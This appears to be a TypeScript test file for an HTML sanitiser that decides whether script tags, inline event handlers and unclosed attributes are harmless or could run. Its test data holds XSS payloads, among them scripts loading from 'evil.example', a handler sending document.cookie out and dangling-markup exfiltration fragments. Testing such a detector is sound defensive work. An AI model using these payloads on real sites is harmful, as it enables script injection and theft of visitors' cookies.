// Scripts that a parser refuses, and those that it takes.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { changesItself, isBrokenScript, isLeftOpen } from './html-script.ts';

const broken = (behind: string) => isBrokenScript(`<script${behind}`, 7);

for (const behind of [
  '> in the comment box, what should I do (strip it)?',
  '>)?',
  '> tags are bad and alert(1) is worse',
  " setup>\nimport { ref } from 'vue'\n</script>",
  ' setup lang="ts">\nexport default {}\n</script>',
])
  test(`<script${behind} is none`, () => assert.ok(broken(behind)));

for (const behind of [
  '>alert(1)</script>',
  '>/* the comment box */alert(1)',
  '>"the comment box";alert(1)',
  '>`the box`,alert(1)',
  '>the\nbox\nalert(1)',
  '>new box, alert(1)',
  '>async function f(){}',
  '>x in y, alert(1)',
  '>',
  ' src=//evil.example>the comment box',
  ' type=module>import "//evil.example"',
  ' setup>alert(1)',
])
  test(`<script${behind} may run`, () => assert.ok(!broken(behind)));

const changes = (handler: string) => changesItself(`"${handler}"`, 1, handler.length + 1);

test('a handler that changes its own element is told from one that does more', () => {
  for (const handler of ["this.onerror=null;this.src='/none.png'", "this.style.display = 'none'", 'this.remove();'])
    assert.ok(changes(handler), handler);
  for (const handler of ["this.src='/x?'+document.cookie", 'alert(1)', "this.src='javascript:x'", 'this.remove();go()'])
    assert.ok(!changes(handler), handler);
});

test('an attribute is left open where its quote is never closed and it waits for more', () => {
  const opens = (text: string) => isLeftOpen(text, text.search(/['"]/) + 1);
  for (const text of ["<img src='http://evil.example/?", '<img src="//evil.example/?x=', "<base target='"])
    assert.ok(opens(text), text);
  for (const text of ["<img src='/a.png'>", '<a href="https://www.example.com/a/lo', '<a href="', "<a title='to be"])
    assert.ok(!opens(text), text);
});
